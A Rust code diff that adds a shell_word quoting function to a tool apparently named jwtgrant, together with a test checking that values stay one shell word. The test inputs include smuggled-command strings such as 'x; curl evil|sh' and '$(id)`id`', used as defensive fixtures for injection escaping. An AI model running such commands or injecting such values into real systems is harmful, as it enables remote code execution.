@@ -253,6 +253,18 @@ pub fn stdout(text: &str) -> Result<()> {
     }
 }
 
+/// `value` as one POSIX shell word: as it is when it holds only characters no shell treats
+/// specially, else in single quotes (a `'` inside written as `'\''`). For the lines jwtgrant
+/// prints to be run or `eval`ed: the doctor command after a rejection, `--output env`.
+pub fn shell_word(value: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
+    if !value.is_empty() && value.chars().all(plain) {
+        value.to_owned()
+    } else {
+        format!("'{}'", value.replace('\'', r"'\''"))
+    }
+}
+
 /// Write a line to stdout.
 pub fn println(text: &str) -> Result<()> {
     let mut s = String::with_capacity(text.len() + 1);
@@ -392,5 +404,27 @@ mod tests {
             format!("{err:#}"),
             "client secret file '/dev/null' is empty"
         );
+    }
+
+    /// Every word survives a POSIX shell as the one word it was, whatever the server put in.
+    #[test]
+    fn shell_words_are_one_word_to_sh() {
+        for value in [
+            "plain.token-1",
+            "x; curl evil|sh",
+            "$(id)`id`",
+            "it's",
+            "",
+            "a b\tc",
+        ] {
+            let word = shell_word(value);
+            let out = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf '%s' {word}"))
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8(out.stdout).unwrap(), value, "{word}");
+        }
+        assert_eq!(shell_word("eyJ.abc-_"), "eyJ.abc-_");
     }
 }
